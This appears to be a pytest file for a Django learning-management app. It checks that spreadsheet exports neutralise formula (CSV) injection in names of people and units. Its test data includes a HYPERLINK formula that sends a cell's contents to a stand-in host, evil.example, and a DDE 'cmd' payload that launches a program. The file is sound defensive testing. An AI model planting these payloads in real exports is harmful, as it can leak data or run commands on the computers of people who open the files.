"""Formula (CSV) injection: cells starting with = + - @, a tab or a carriage return are neutralised by
lms.spreadsheets.safe_cell in every exporter that writes people's or units' names."""

import io

import openpyxl
import pytest
from django.urls import reverse

from lms.spreadsheets import safe_cell, safe_row
from organisations.models import OrganisationUnit, Person

from .conftest import OFFICER_A

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_text_that_could_start_a_formula_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "", None, 42, -3, 1.5, "a=b", "Sở Nội vụ - Phòng 1"])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value
    assert safe_row([value]) == [value]


def _all_values(workbook):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(workbook, payloads):
    cells = _all_values(workbook)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    for payload in payloads:
        assert any(c.value == "'" + payload for c in cells), f"{payload!r} not found neutralised"


def test_the_competency_matrix_export(world):
    Person.objects.filter(pk=world.objects.person.pk).update(full_name=FORMULAS[0], employee_code="@SUM(1)")
    response = world.client(OFFICER_A).get(reverse("certification:matrix_xlsx"))
    assert response.status_code == 200
    _assert_no_formula(openpyxl.load_workbook(io.BytesIO(response.content)), [FORMULAS[0], "@SUM(1)"])


def test_the_roster_template_lists_unit_names_safely(world):
    OrganisationUnit.objects.filter(pk=world.unit_a.pk).update(name="=cmd|'/C calc'!A0")
    response = world.client(OFFICER_A).get(reverse("organisations:roster_template"))
    assert response.status_code == 200
    _assert_no_formula(openpyxl.load_workbook(io.BytesIO(response.content)), ["=cmd|'/C calc'!A0"])
